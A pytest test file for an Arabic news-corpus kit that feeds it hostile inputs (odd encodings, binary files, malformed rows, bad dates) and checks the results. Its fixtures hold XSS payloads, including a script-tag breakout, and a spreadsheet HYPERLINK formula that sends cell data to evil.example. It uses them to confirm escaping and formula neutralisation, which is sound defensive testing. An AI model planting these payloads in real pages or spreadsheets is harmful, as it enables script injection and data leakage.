"""Hostile and broken input, together in one folder corpus built from the seed articles.

cp1256 and UTF-16 files, an empty file, a binary file named .txt, a 20 MB article, Latin text only, HTML and
`<script>` in the article text (and in its title, source and file name), a spreadsheet formula as its first
line, a UTF-8 file with a corrupt byte, and a JSONL table with a malformed line: every input ends up as one
article (its text decoded exactly) or as one row of `corpus.errors` naming the file, the whole folder is
annotated with spans that point back into the text, and article text is escaped in every HTML the kit
renders or exports. Malformed rows of a researcher's actor catalogue or stance lexicon stop the kit with a
LexiconError naming the file and the line.

The folder is loaded and annotated once for the module (the 20 MB article takes most of the time).
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from pathlib import Path

import ipywidgets as W
import pandas as pd
import plotly.graph_objects as go
import pytest

import kit
from kit.arabic.text import normalize, split_article
from kit.io.export import export_chart, write_table

from .conftest import ROOT, SEEDS

SCRIPT = '<script>alert("x")</script>'
IMG = "<img src=x onerror=alert(1)>"
CLOSE = "</script><script>alert(2)</script>"
SOURCE_HTML = "<img src=x onerror=alert('source')>"
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"الكرملين: الاتحاد الأوروبي يحاول إخراج روسيا")'
HOSTILE_ID = "<img src=x onerror=alert(3)>"  # a file name is article text too: it becomes the article_id
PAYLOADS = (SCRIPT, IMG, CLOSE, SOURCE_HTML, HOSTILE_ID)
BIG_BYTES = 20_000_000
LATIN = (
    "Putin and Macron court Kazakhstan\n\n"
    "French President Emmanuel Macron arrived in Astana on Wednesday, a week before Russian President Vladimir "
    "Putin, as Europe seeks closer ties with Central Asia. Kazakhstan supplies uranium and oil to France.\n\n"
    'Kremlin spokesman Dmitry Peskov said: "Kazakhstan is our ally and strategic partner." Trade reached $28 billion.\n'
)
# tags the kit's own HTML widgets use; anything else in a widget came from article text
KIT_TAGS = {"div", "p", "span", "mark", "h3", "h4", "table", "tr", "td", "th", "ul", "li", "code"}
KIT_ATTRIBUTES = {"dir", "lang", "style", "title"}


def seed(article_id: str) -> str:
    return (SEEDS / f"{article_id}.txt").read_text(encoding="utf-8")


def script_article() -> str:
    """Seed 002 with HTML in its paragraphs, in its source line, and a spreadsheet formula as its first line."""
    lines = seed("002_e6f550ea9df77be0").split("\n")
    lines[0] = FORMULA
    for number, line in enumerate(lines):
        if line.startswith("وقال وزير الخارجية سيرغي لافروف"):  # an indirect quote
            lines[number] = line.replace("يحاول علناً", f"يحاول {SCRIPT} علناً")
        elif line.startswith("وأكد لافروف:"):  # a direct quote
            lines[number] = line.replace("نحن لا نرفض التواصل", f"نحن لا نرفض {IMG} التواصل")
        elif line.startswith("أعلن وزير الخارجية الروسي"):  # the sentence of a figure
            lines[number] = line.replace("بكازاخستان", f"بكازاخستان {CLOSE}", 1)
        elif line.startswith("المصدر:"):
            lines[number] = f"{line} {SOURCE_HTML}"
    text = "\n".join(lines)
    assert all(payload in text for payload in (SCRIPT, IMG, CLOSE, SOURCE_HTML)), "seed 002 changed: update script_article"
    return text


def big_article() -> str:
    """A 20 MB (UTF-8) article of seed paragraphs, one per line with blank lines between."""
    paragraphs = [line.strip() for p in sorted(SEEDS.glob("*.txt")) for line in p.read_text(encoding="utf-8").split("\n") if len(line.strip()) > 80]
    parts, size = ["مقال طويل عن زيارتي ماكرون وبوتين إلى كازاخستان"], 0
    while size < BIG_BYTES:
        parts.append(paragraphs[len(parts) % len(paragraphs)])
        size += len(parts[-1].encode("utf-8")) + 2
    return "\n\n".join(parts) + "\n"


@dataclass
class Hostile:
    folder: Path
    articles: dict[str, tuple[str, str]]  # file name → (text, encoding) of the files that must load
    errors: dict[str, str]  # file name → what the reason says
    corpus: kit.Corpus
    annotated: kit.Annotated

    def article_id(self, name: str) -> str:
        return self.corpus.articles.set_index("path").loc[name, "article_id"]

    def small(self) -> kit.Annotated:
        """The annotated corpus without the 20 MB article (for the CSV test, which writes and rereads every row)."""
        keep = self.annotated.articles["article_id"] != self.article_id("long_article.txt")
        ids = set(self.annotated.articles.loc[keep, "article_id"])
        return replace(self.annotated, **{name: table[table["article_id"].isin(ids)].reset_index(drop=True) for name, table in self.annotated.tables.items() if name != "errors"})


def jsonl_lines() -> list[str]:
    records = [
        {"article_id": "j1", "source": "سكاي نيوز عربية", "text": seed("000_cea7cba6d4a6a0b3")},
        {"article_id": "j2", "text": seed("001_911741716f96cebe")},
    ]
    lines = [json.dumps(r, ensure_ascii=False) for r in records]
    lines.append('{"article_id": "j3", "text": "وقال لافروف إن')  # cut off mid-string: line 3
    # a raw U+2028 and U+0085 inside a JSON string are valid JSON (and common in scraped Arabic text)
    lines.append(json.dumps({"article_id": "j4", "text": seed("004_2fa40185600453ab").replace("\n\n", "\u2028\n", 3) + "\x85"}, ensure_ascii=False))
    lines.append(json.dumps({"article_id": "j5", "text": seed("003_187d395c4a0346df")}, ensure_ascii=False))
    return lines


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Hostile:
    folder = tmp_path_factory.mktemp("hostile")
    articles: dict[str, tuple[str, str]] = {}
    errors: dict[str, str] = {}

    def article(name: str, text: str, data: bytes, encoding: str) -> None:
        (folder / name).write_bytes(data)
        articles[name] = (text, encoding)

    def error(name: str, data: bytes, reason: str) -> None:
        (folder / name).write_bytes(data)
        errors[name] = reason

    windows, excel, no_bom = seed("000_cea7cba6d4a6a0b3"), seed("004_2fa40185600453ab"), seed("001_911741716f96cebe")
    article("windows.txt", windows, windows.encode("cp1256"), "cp1256")
    article("excel_unicode.txt", excel, excel.encode("utf-16"), "utf-16")  # Excel's "Unicode text": BOM + UTF-16-LE
    article("utf16_no_bom.txt", no_bom, no_bom.encode("utf-16-le"), "utf-16-le")
    error("empty.txt", b"", "empty file")
    error("archive.txt", gzip.compress(seed("003_187d395c4a0346df").encode("utf-8"), mtime=0), "binary")
    article("latin.txt", LATIN, LATIN.encode("utf-8"), "utf-8")
    script = script_article()
    article("script.txt", script, script.encode("utf-8"), "utf-8")
    big = big_article()
    article("long_article.txt", big, big.encode("utf-8"), "utf-8")
    damaged = seed("003_187d395c4a0346df")
    cut = damaged.index("\n", 400)  # a stray Windows byte in a UTF-8 file, on line 2 or later
    article("damaged_utf8.txt", damaged[:cut] + "\ufffd" + damaged[cut:], damaged[:cut].encode() + b"\x96" + damaged[cut:].encode(), "utf-8")
    article(f"{HOSTILE_ID}.txt", windows, windows.encode("utf-8"), "utf-8")
    error("articles.jsonl", ("\n".join(jsonl_lines()) + "\n").encode("utf-8"), "not a .txt file")

    corpus = kit.load_corpus(folder)
    return Hostile(folder, articles, errors, corpus, kit.annotate(corpus))


# ---------------------------------------------------------------------------------------------------
# Every input is an article or an error


def test_every_file_is_one_article_or_one_error_naming_it(hostile):
    articles = hostile.corpus.articles
    errors = hostile.corpus.errors
    failed = errors[errors["level"] == "error"]
    assert sorted(articles["path"]) == sorted(hostile.articles)  # one row each, nothing else
    assert sorted(Path(p).name for p in failed["path"]) == sorted(hostile.errors)
    for name, (text, encoding) in hostile.articles.items():
        row = articles[articles["path"] == name].iloc[0]
        assert row["text"] == text, name  # decoded exactly (NFC seed text, no BOM)
        assert row["encoding"] == encoding, name
        assert row["n_chars"] == len(text)
    for name, says in hostile.errors.items():
        reason = failed.loc[failed["path"].map(lambda p: Path(p).name) == name, "reason"].iloc[0]
        assert str(hostile.folder / name) in reason and says in reason, reason
    assert len(articles) + len(failed) == len(list(hostile.folder.iterdir()))  # nothing dropped silently


def test_a_corrupt_byte_in_utf8_is_replaced_and_reported_not_read_as_cp1256(hostile):
    warnings = hostile.corpus.errors[hostile.corpus.errors["level"] == "warning"]
    reason = warnings.loc[warnings["path"].str.endswith("damaged_utf8.txt"), "reason"].iloc[0]
    assert "1 invalid UTF-8 byte(s) replaced by U+FFFD" in reason
    text = hostile.articles["damaged_utf8.txt"][0]
    assert f"line {text[: text.index(chr(0xFFFD))].count(chr(10)) + 1}:" in reason


def test_metadata_is_read_from_hostile_pages(hostile):
    articles = hostile.corpus.articles.set_index("path")
    assert articles.loc["windows.txt", "source"] == "سكاي نيوز عربية"  # read from the cp1256 bytes
    assert articles.loc["excel_unicode.txt", "published"] == pd.Timestamp("2023-04-11")  # ١١ أبريل ٢٠٢٣, from UTF-16
    assert articles.loc["script.txt", "title"] == FORMULA
    assert articles.loc["script.txt", "source"] == f"موقع 24 {SOURCE_HTML}"
    assert articles.loc[f"{HOSTILE_ID}.txt", "article_id"] == HOSTILE_ID
    assert articles.loc["latin.txt", "title"] == "Putin and Macron court Kazakhstan"


def test_jsonl_with_one_malformed_line_loads_the_others(hostile):
    path = hostile.folder / "articles.jsonl"
    corpus = kit.load_corpus(path)
    assert list(corpus.articles["article_id"]) == ["j1", "j2", "j4", "j5"]
    texts = corpus.articles.set_index("article_id")["text"]
    assert texts["j1"] == seed("000_cea7cba6d4a6a0b3")
    assert "\u2028" in texts["j4"] and texts["j4"].endswith("\x85")  # line separators inside a record are text
    assert len(corpus.errors) == 1
    bad = corpus.errors.iloc[0]
    assert bad["row"] == 3 and bad["level"] == "error"
    assert f"{path}, line 3: not valid JSON" in bad["reason"]
    annotated = kit.annotate(corpus)
    assert set(annotated.sentences["article_id"]) == {"j1", "j2", "j4", "j5"}


# ---------------------------------------------------------------------------------------------------
# Annotation of the whole folder


def test_the_whole_folder_is_annotated_with_spans_that_point_into_the_text(hostile):
    annotated = hostile.annotated
    texts = annotated.articles.set_index("article_id")["text"].to_dict()
    assert set(annotated.sentences["article_id"]) == set(texts)
    assert annotated.errors.equals(hostile.corpus.errors)
    big = hostile.article_id("long_article.txt")
    for table in ("mentions", "quotes", "figures", "stance", "cues"):
        assert (getattr(annotated, table)["article_id"] == big).any(), table
    for name, column in (("sentences", "text"), ("mentions", "surface"), ("quotes", "quote"), ("figures", "surface")):
        table = getattr(annotated, name)
        for article_id, start, end, surface in zip(table["article_id"], table["start"], table["end"], table[column]):
            assert texts[article_id][start:end] == surface, (name, article_id, start)
    quotes = annotated.quotes.dropna(subset=["verb"])
    for article_id, start, end, verb in zip(quotes["article_id"], quotes["verb_start"], quotes["verb_end"], quotes["verb"]):
        assert texts[article_id][start:end] == verb
    sentences = annotated.sentences.set_index(["article_id", "sentence_id"])[["start", "end"]]
    bounds = sentences.loc[list(zip(annotated.cues["article_id"], annotated.cues["sentence_id"]))].to_numpy()
    for (low, high), article_id, start, end, pattern in zip(bounds, annotated.cues["article_id"], annotated.cues["start"], annotated.cues["end"], annotated.cues["pattern"]):
        surface = " ".join(normalize(texts[article_id][start:end]).split())
        assert low <= start < end <= high, (article_id, start, pattern, surface)
        if not pattern.startswith("learned:"):  # a learned cue's pattern lists the n-grams that drove it
            assert cue_is_in(pattern, surface), (article_id, start, pattern, surface)


def cue_is_in(pattern: str, surface: str) -> bool:
    """Whether a cue's span holds its pattern: each word's core (its article and last letter free, «عقوبة» → «عقوبات»);
    a verb written PAST/PRESENT by its past stem or its present stem without ي («اتهم/يتهم» in «تتهم»)."""
    past, slash, words = pattern.partition("/")
    if not slash:  # a phrase's article may give way to a pronoun suffix («الشريك الاستراتيجي» in «شريكنا الاستراتيجي»)
        return all(split_article(word)[1][:-1] in surface for word in pattern.split())
    present, *rest = words.split()
    verb = normalize(past) in surface or normalize(present)[1:] in surface
    return verb and all(split_article(word)[1][:-1] in surface for word in rest)


def test_html_in_the_text_is_kept_as_text_by_every_layer(hostile):
    annotated = hostile.annotated
    script = hostile.article_id("script.txt")
    quotes = annotated.quotes[annotated.quotes["article_id"] == script]["quote"]
    assert quotes.str.contains(SCRIPT, regex=False).any() and quotes.str.contains(IMG, regex=False).any()
    sentences = annotated.sentences[annotated.sentences["article_id"] == script]
    assert sentences["text"].str.contains(CLOSE, regex=False).any()
    assert sentences["text"].iloc[0] == FORMULA
    speakers = set(annotated.quotes.loc[annotated.quotes["article_id"] == script, "speaker_id"].dropna())
    assert "RUS_LAVROV" in speakers


def test_latin_only_text_loads_and_finds_no_arabic_actors(hostile):
    latin = hostile.article_id("latin.txt")
    annotated = hostile.annotated
    assert (annotated.sentences["article_id"] == latin).sum() >= 4
    assert not (annotated.mentions["article_id"] == latin).any()
    assert not (annotated.stance["article_id"] == latin).any()


# ---------------------------------------------------------------------------------------------------
# Escaping: the reader, charts, HTML export, CSV export, dashboards


class _Tags(HTMLParser):
    """The tags and attribute names of an HTML fragment, as a browser would parse them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def assert_inert(fragment: str, where: str) -> None:
    """Only the kit's own tags and attributes: article text in it was escaped."""
    lowered = fragment.lower()
    assert "<script" not in lowered and "<img" not in lowered, where
    parsed = _Tags()
    parsed.feed(fragment)
    parsed.close()
    assert parsed.tags <= KIT_TAGS, (where, parsed.tags - KIT_TAGS)
    assert parsed.attributes <= KIT_ATTRIBUTES, (where, parsed.attributes - KIT_ATTRIBUTES)


def test_reader_html_escapes_the_article(hostile):
    annotated = hostile.annotated
    script = hostile.article_id("script.txt")
    for article_id in (script, HOSTILE_ID):
        for highlight in ("segments", "mentions", "cues", "figures"):
            page = kit.article_html(annotated, article_id, highlight)
            assert_inert(page, f"article_html({article_id!r}, {highlight!r})")
    page = kit.article_html(annotated, script, "mentions")
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;/script&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in page
    sentences = annotated.sentences[annotated.sentences["article_id"] == script]
    for sentence_id in sentences.loc[sentences["text"].str.contains("<", regex=False), "sentence_id"]:
        for highlight in ("cues", "mentions"):
            fragment = kit.sentence_html(annotated, script, sentence_id, highlight)
            assert_inert(fragment, f"sentence_html({sentence_id}, {highlight!r})")
            assert "&lt;" in fragment


def chart_strings(figure) -> list[str]:
    found: list[str] = []

    def walk(value) -> None:
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)
        elif isinstance(value, (list, tuple)) or hasattr(value, "tolist"):
            for item in value.tolist() if hasattr(value, "tolist") else value:
                walk(item)

    walk(go.Figure(figure).to_plotly_json())
    return found


def chart_builders(annotated):
    """Every chart builder of kit.viz.charts with the rows the dashboards give it (labels in both languages)."""
    context = kit.in_context
    stance = context(annotated.stance, annotated)
    figures = context(annotated.figures, annotated)
    for labels in ("en", "ar"):
        yield "timeline", kit.viz.charts.timeline(annotated.articles, labels)
        yield "segments_chart", kit.viz.charts.segments_chart(annotated.sentences, labels)
        yield "actor_bars", kit.viz.charts.actor_bars(annotated.mentions, labels)
        yield "actor_heatmap", kit.viz.charts.actor_heatmap(annotated.mentions, labels)
        yield "cooccurrence_network", kit.viz.charts.cooccurrence_network(annotated.mentions, labels)
        for by in ("article_id", "source", "holder_id", "month"):
            yield f"stance_bars by {by}", kit.viz.charts.stance_bars(stance, by, labels)
        yield "stance_timeline", kit.viz.charts.stance_timeline(stance, labels)
        yield "figures_chart", kit.viz.charts.figures_chart(figures, labels)
        found = kit.conflicts(figures, annotated.articles)
        yield "conflicts_chart", kit.viz.charts.conflicts_chart(found, labels)


def payloads_in(strings: list[str]) -> set[str]:
    return {payload for payload in PAYLOADS for s in strings if payload in s}


def test_chart_labels_and_hover_texts_are_escaped(hostile):
    annotated = hostile.annotated
    unescaped = {}
    for name, figure in chart_builders(annotated):
        found = payloads_in(chart_strings(figure))
        if found - {HOSTILE_ID}:  # article ids: see the next test
            unescaped[name] = found
    assert not unescaped
    timeline = chart_strings(kit.viz.charts.timeline(annotated.articles))
    assert any("&lt;img src=x onerror=alert(&#x27;source&#x27;)&gt;" in s for s in timeline)  # the source, escaped


def test_article_ids_from_file_names_are_escaped_in_charts(hostile):
    annotated = hostile.small()
    unescaped = {name for name, figure in chart_builders(annotated) if HOSTILE_ID in payloads_in(chart_strings(figure))}
    assert not unescaped, unescaped


def test_chart_html_export_cannot_be_closed_by_article_text(hostile, tmp_path):
    annotated = hostile.small()
    # a label that bypassed escaping: plotly's JSON escapes < > / so </script> cannot end its script block
    raw = go.Figure(go.Bar(x=[1, 2], y=[CLOSE, SCRIPT], name=IMG, customdata=[[SOURCE_HTML], [CLOSE]], hovertemplate="%{customdata[0]}"))
    page = export_chart(raw, None, "raw labels", tmp_path, formats=("html",)).paths["html"].read_text(encoding="utf-8")
    for payload in (CLOSE, SCRIPT, IMG, SOURCE_HTML, "</script><script>"):
        assert payload not in page
    assert "\\u003c\\u002fscript\\u003e\\u003cscript\\u003ealert(2)" in page
    assert page.count("</script>") == export_chart(go.Figure(go.Bar(x=[1], y=[1])), None, "plain", tmp_path, formats=("html",)).paths["html"].read_text(encoding="utf-8").count("</script>")
    # the kit's own charts of the hostile corpus, and the rows behind them
    figure = kit.viz.charts.timeline(annotated.articles)
    result = export_chart(figure, annotated.articles.drop(columns=["text"]), "timeline", tmp_path, formats=("html", "csv"))
    page = result.paths["html"].read_text(encoding="utf-8")
    assert SOURCE_HTML not in page and "<img" not in page
    rows = pd.read_csv(result.paths["csv"], encoding="utf-8-sig", dtype=str, keep_default_na=False).set_index("path")
    assert rows.loc["script.txt", "title"] == "'" + FORMULA  # not a live formula in Excel
    assert rows.loc["script.txt", "source"] == f"موقع 24 {SOURCE_HTML}"  # CSV keeps the text as it is


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_exports_neutralise_formulas(hostile, tmp_path):
    annotated = hostile.small()
    written = [p for name, table in annotated.tables.items() for p in write_table(table, tmp_path / name) if p.suffix == ".csv"]
    formula_cells = []
    for path in written:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell):
                        formula_cells.append((path.name, cell[:60]))
    assert not formula_cells
    sentences = pd.read_csv(tmp_path / "sentences.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert ("'" + FORMULA) in set(sentences["text"])
    assert kit.io.export.excel_safe(pd.DataFrame({"t": [FORMULA, "-1", "@SUM(A1)", "نص"]}))["t"].tolist() == ["'" + FORMULA, "-1", "'@SUM(A1)", "نص"]


def html_widgets(widget) -> list[W.HTML]:
    found = [widget] if isinstance(widget, W.HTML) else []
    for child in getattr(widget, "children", ()):
        found.extend(html_widgets(child))
    return found


def test_dashboards_escape_article_text_in_their_html_widgets(hostile, tmp_path):
    annotated = hostile.annotated
    script = hostile.article_id("script.txt")
    boards = [board(annotated, outdir=tmp_path) for board in (kit.CorpusDashboard, kit.ActorsDashboard, kit.StanceDashboard, kit.FiguresDashboard)]
    corpus_board, actors_board, stance_board, _ = boards
    for board in (corpus_board, actors_board):
        board.article.value = script
        board.segments.value = ("body", "related", "tags", "boilerplate")
    corpus_board.source.value = f"موقع 24 {SOURCE_HTML}"  # the source, as a filter
    sentences = stance_board.sentence.options
    hostile_sentences = [value for _, value in sentences if value[0] in (script, HOSTILE_ID)]
    assert hostile_sentences
    shown = []
    for value in hostile_sentences:
        stance_board.sentence.value = value
        shown.extend((f"stance {value}", w.value) for w in html_widgets(stance_board.widget))
    stance_board.by.value = "source"
    for board in boards:
        shown.extend((type(board).__name__, w.value) for w in html_widgets(board.widget))
    for where, value in shown:
        assert_inert(value, where)
    everything = "".join(value for _, value in shown)
    assert "&lt;script&gt;" in everything and "&lt;img src=x onerror=alert(1)&gt;" in everything  # shown, as text
    for board in boards:
        for name, figure in board.charts.items():
            assert not payloads_in(chart_strings(figure)) - {HOSTILE_ID}, (type(board).__name__, name)


# ---------------------------------------------------------------------------------------------------
# A researcher's catalogue and stance lexicon with a malformed row


def catalogue_header() -> str:
    return next(line for line in kit.base.lexicons.data_path("actors.csv").read_text(encoding="utf-8-sig").splitlines() if line and not line.startswith("#"))


# not in the bundled catalogue; seed 004 names it («عشية اجتماع مجلس وزراء الخارجية لرابطة الدول المستقلة»)
COUNCIL = "CIS_CFM,CIS Council of Foreign Ministers,مجلس وزراء الخارجية,,,,organisation,CIS,russia,,,"


@pytest.mark.parametrize(
    "bad_row, message",
    [
        ("KAZ_NURTLEU,Murat Nurtleu,مراد نورتلو,,,,person,KAZ,centralasia,,,", "line 3: column 'bloc' = 'centralasia': must be one of"),
        ("KAZ_NURTLEU,Murat Nurtleu,مراد نورتلو,,,person,KAZ,central_asia,,,", "line 3: expected 12 fields, found 11"),
        ('KAZ_NURTLEU,Murat Nurtleu,"مراد نورتلو,,,,person,KAZ,central_asia,,,', "line 3: a quotation mark is left open (the row runs on to the end of the file, line 5)"),
    ],
)
def test_a_malformed_catalogue_row_is_an_error_naming_file_and_line(hostile, tmp_path, bad_row, message):
    path = tmp_path / "my_actors.csv"
    path.write_text(f"{catalogue_header()}\n{COUNCIL}\n{bad_row}\n\n{COUNCIL.replace('CIS_CFM', 'CIS_OTHER')}\n", encoding="utf-8")
    with pytest.raises(kit.LexiconError) as error:
        kit.Catalogue.load(extra=[path])
    assert f"{path}, {message}" in str(error.value)
    with pytest.raises(kit.LexiconError, match=re.escape(f"{path}, line 3")):
        kit.annotate(hostile.corpus, extra_actors=[path])


def test_a_catalogue_saved_by_excel_in_cp1256_or_utf16_loads(hostile, tmp_path):
    corpus = kit.load_corpus(hostile.folder / "excel_unicode.txt")  # seed 004, in UTF-16
    for encoding in ("cp1256", "utf-16"):
        path = tmp_path / f"actors_{encoding}.csv"
        path.write_bytes(f"{catalogue_header()}\r\n{COUNCIL}\r\n".encode(encoding))
        assert "CIS_CFM" in kit.Catalogue.load(extra=[path]).actors.index
        mentions = kit.annotate(corpus, extra_actors=[path]).mentions
        assert "CIS_CFM" in set(mentions["actor_id"]), encoding


@pytest.mark.parametrize(
    "data, message",
    [(b"", "empty file"), (gzip.compress(b"actor_id,name_en\n", mtime=0), "binary"), (bytes(range(1, 256)) * 8, "not readable text")],
)
def test_an_unreadable_catalogue_is_a_lexicon_error_naming_the_file(tmp_path, data, message):
    path = tmp_path / "broken.csv"
    path.write_bytes(data)
    with pytest.raises(kit.LexiconError) as error:
        kit.Catalogue.load(extra=[path])
    assert str(path) in str(error.value) and message in str(error.value)


def test_a_byte_that_is_not_utf8_in_a_lexicon_names_its_line(tmp_path):
    path = tmp_path / "my_actors.csv"
    path.write_bytes(f"{catalogue_header()}\n{COUNCIL}\n".encode() + "KAZ_X,X,".encode() + b"\xe4" + "س,,,,person,KAZ,central_asia,,,\n".encode())
    with pytest.raises(kit.LexiconError, match=re.escape(f"{path}, line 3: 1 byte(s) that are not valid UTF-8")):
        kit.Catalogue.load(extra=[path])


@pytest.mark.parametrize(
    "bad_row, message",
    [
        ("تقارب,engagement,2,1.0,agent,,", "polarity must be 1 or -1"),
        ("تقارب,friendship,1,1.0,agent,,", "column 'category' = 'friendship': must be one of"),
        ("تقارب,engagement,1,heavy,agent,,", "column 'weight' = 'heavy'"),
        ("تقارب,engagement,1", "expected"),
    ],
)
def test_a_malformed_stance_cue_row_is_an_error_naming_file_and_line(hostile, tmp_path, bad_row, message):
    bundled = kit.base.lexicons.data_path("stance_cues.csv").read_text(encoding="utf-8-sig")
    path = tmp_path / "my_cues.csv"
    path.write_text(bundled.rstrip("\n") + "\n" + bad_row + "\n", encoding="utf-8")
    line = len(path.read_text(encoding="utf-8").splitlines())
    with pytest.raises(kit.LexiconError) as error:
        kit.StanceLexicon.load(path)
    assert f"{path}, line {line}: " in str(error.value) and message in str(error.value)
    with pytest.raises(kit.LexiconError, match=re.escape(f"{path}, line {line}: ")):
        kit.annotate(hostile.corpus, cues=path)


# ---------------------------------------------------------------------------------------------------
# Second round: dates, table rows, special files, metadata.csv, scripts, killed parents. Each test runs as a
# user would (kit.load_corpus, kit.load, `python -m kit`) on files generated in tmp_path, under a deadline.

HANG_SECONDS = 120
UNDATED = "000_cea7cba6d4a6a0b3"  # a seed page that prints no publication date


@pytest.fixture
def deadline():
    """Fail (not hang) a test that runs longer than HANG_SECONDS."""

    def expired(signum, frame):
        raise TimeoutError(f"the test ran longer than {HANG_SECONDS} s: something hangs")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(HANG_SECONDS)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


@pytest.fixture
def cache_dir(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "cache"
    monkeypatch.setenv("KIT_CACHE", str(folder))
    return folder


def run_kit(*args: str, cache: Path, timeout: float = HANG_SECONDS) -> subprocess.CompletedProcess:
    """`python -m kit ARGS` as a user runs it, from the kit's folder, stopped if it hangs."""
    env = {**os.environ, "KIT_CACHE": str(cache), "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "kit", *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=timeout)


def errors_csv(outdir: Path) -> pd.DataFrame:
    return pd.read_csv(outdir / "errors.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)


def dated_table(path: Path, published: list[str]) -> None:
    """A CSV of seed articles with the given published cells, one per row (rows 2, 3, ...)."""
    texts = [seed(UNDATED), seed("001_911741716f96cebe"), seed("003_187d395c4a0346df")]
    frame = pd.DataFrame({"article_id": [f"a{i}" for i in range(len(published))], "published": published, "text": texts[: len(published)]})
    frame.to_csv(path, index=False)


def future(days: int) -> str:
    return (dt.date.today() + dt.timedelta(days=days)).isoformat()


@pytest.mark.usefixtures("deadline")
@pytest.mark.parametrize(
    "value, says",
    [
        ("0001-01-01", "is out of range (before 1800)"),
        ("1200-03-01", "is out of range (before 1800)"),
        ("2300-01-01", "is more than a year in the future"),
        ("2999-12-31", "is more than a year in the future"),
        (future(400), "is more than a year in the future"),
        ("today", "is not a date"),
        ("now", "is not a date"),
        ("yesterday", "is not a date"),
        ("13/13/13/13", "cannot be read as a date"),
        ("1445-13-40", "cannot be read as a date"),
        ("15 ذي الحجة 1200", "is a Hijri date outside the Umm al-Qura calendar"),
    ],
)
def test_a_bad_published_value_is_nat_with_a_warning_naming_file_row_and_value(tmp_path, value, says):
    path = tmp_path / "dated.csv"
    dated_table(path, [value, "2023-11-10"])
    corpus = kit.load_corpus(path)
    articles = corpus.articles.set_index("article_id")
    assert list(articles.index) == ["a0", "a1"]  # the bad cell takes down nothing
    assert pd.isna(articles.loc["a0", "published"])  # seed 000 prints no date: nothing to read instead
    assert articles.loc["a1", "published"] == pd.Timestamp("2023-11-10")
    warning = corpus.errors[corpus.errors["level"] == "warning"]
    assert len(warning) == 1 and warning["row"].iloc[0] == 2
    assert f"{path}, row 2: published date {value!r} {says}" in warning["reason"].iloc[0]
    assert not (corpus.errors["level"] == "error").any()


@pytest.mark.usefixtures("deadline")
@pytest.mark.parametrize(
    "value",
    ["1445-05-26", "1445/5/26", "26/05/1445", "26 جمادى الأولى 1445", "٢٦ جمادى الأولى ١٤٤٥ هـ", "26 جمادي الاولى 1445هـ", "1445-5-26 هـ", "10 ديسمبر 2023 الموافق 26 جمادى الأولى 1445 هـ"],
)
def test_a_hijri_published_date_is_converted_and_its_text_kept(tmp_path, value):
    path = tmp_path / "hijri.csv"
    dated_table(path, [value, "2023-11-10"])
    corpus = kit.load_corpus(path)
    articles = corpus.articles.set_index("article_id")
    assert articles.loc["a0", "published"] == pd.Timestamp("2023-12-10")  # 26 Jumada al-Ula 1445 AH (Umm al-Qura)
    assert articles.loc["a0", "published_raw"] == value
    assert pd.isna(articles.loc["a1", "published_raw"]) and articles.loc["a1", "published"] == pd.Timestamp("2023-11-10")
    assert corpus.errors.empty


@pytest.mark.usefixtures("deadline")
def test_hijri_month_names_cover_every_month():
    names = kit.arabic.dates.hijri_month_names()
    assert set(names.values()) == set(range(1, 13))
    assert names[normalize("ذو الحجة")] == names[normalize("ذي الحجة")] == 12  # ذي after a day number
    assert not set(names) & set(kit.arabic.dates.month_names())  # no Gregorian month is read as Hijri


def parquet_with_dates(path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    stamps = pa.array([dt.datetime(2999, 1, 1), dt.datetime(2023, 11, 10), dt.datetime(1, 1, 1)], pa.timestamp("us"))
    pq.write_table(pa.table({"article_id": ["p0", "p1", "p2"], "text": [seed(UNDATED), seed("001_911741716f96cebe"), seed(UNDATED) + "\nملحق"], "published": stamps}), path)


@pytest.mark.usefixtures("deadline")
def test_dates_outside_pandas_range_in_parquet_and_metadata_csv_load_everywhere(tmp_path, cache_dir):
    table = tmp_path / "table" / "articles.parquet"
    table.parent.mkdir()
    parquet_with_dates(table)
    folder = tmp_path / "folder"
    folder.mkdir()
    for name in ("a", "b", "c"):
        (folder / f"{name}.txt").write_text(seed(UNDATED), encoding="utf-8")
    (folder / "metadata.csv").write_text("article_id,published\na,2999-01-01\nb,1445-05-26\nc,0001-01-01\n", encoding="utf-8")
    for path, bad in ((table, {"p0": 1, "p2": 3}), (folder, {"a": 2, "c": 4})):
        corpus = kit.load_corpus(path)
        annotated = kit.load(path)
        outdir = tmp_path / f"out-{path.name}"
        result = run_kit("annotate", str(path), "-o", str(outdir), "--no-progress", cache=cache_dir)
        assert result.returncode == 0, result.stderr[-2000:]
        assert "Traceback" not in result.stderr
        for articles, errors in ((corpus.articles, corpus.errors), (annotated.articles, annotated.errors), (None, errors_csv(outdir))):
            warned = errors[errors["reason"].str.contains("published date")]
            assert sorted(warned["row"].astype(int)) == sorted(bad.values()), warned["reason"].tolist()
            assert all(str(path) in reason for reason in warned["reason"])
            if articles is not None:
                published = articles.set_index("article_id")["published"]
                assert published[list(bad)].isna().all()
        if path is folder:
            assert corpus.articles.set_index("article_id").loc["b", "published"] == pd.Timestamp("2023-12-10")
